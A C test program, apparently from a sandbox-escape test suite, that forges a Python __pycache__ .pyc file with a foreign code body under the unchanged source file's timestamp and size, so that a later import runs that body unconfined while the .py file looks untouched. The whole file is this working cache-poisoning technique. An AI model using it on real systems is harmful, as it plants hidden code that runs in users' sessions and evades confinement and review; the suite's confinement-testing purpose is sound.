/* learn_pyc.c: a program under a learned writing glob rewrites a module's bytecode cache.
 *
 * Python runs __pycache__/NAME.cpython-XY.pyc in place of NAME.py when the cache's header
 * holds the source's modification time and size (the default, unchecked-hash-less pyc): it
 * never reads the source to compare.  Under a learned "$CWD/..." tree glob the program --
 * which may read the user's tool.py but not change it -- writes the cache with a body of
 * its own and the header of the source as it is: the user's next "import tool" runs the
 * body, unconfined, and tool.py is as it was.
 *
 *   learn_pyc BODY SOURCE CACHE   BODY: the magic (4 bytes) and a marshalled code object;
 *                                 ESCAPED when CACHE was written, BLOCKED otherwise
 */
#include "attack.h"
#include <stdint.h>

int main(int argc, char **argv) {
    if (argc != 4)
        usage("learn_pyc BODY SOURCE CACHE");
    static char body[1 << 16];
    int in = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (in < 0)
        blocked("open %s: %s", argv[1], ename(errno));
    ssize_t n = read(in, body, sizeof body);
    close(in);
    if (n < 8)
        blocked("read %s: too short", argv[1]);
    struct stat st;
    if (stat(argv[2], &st) < 0)
        blocked("stat %s: %s", argv[2], ename(errno));
    uint32_t header[3] = {0, (uint32_t)st.st_mtime, (uint32_t)st.st_size};  /* (little end) */
    int out = open(argv[3], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (out < 0)
        blocked("write %s: %s", argv[3], ename(errno));
    if (write(out, body, 4) != 4 || write(out, header, sizeof header) != sizeof header ||
        write(out, body + 4, (size_t)n - 4) != n - 4)
        blocked("write %s: %s", argv[3], ename(errno));
    close(out);
    escaped("%s holds a body of its own under %s's time and size", argv[3], argv[2]);
}
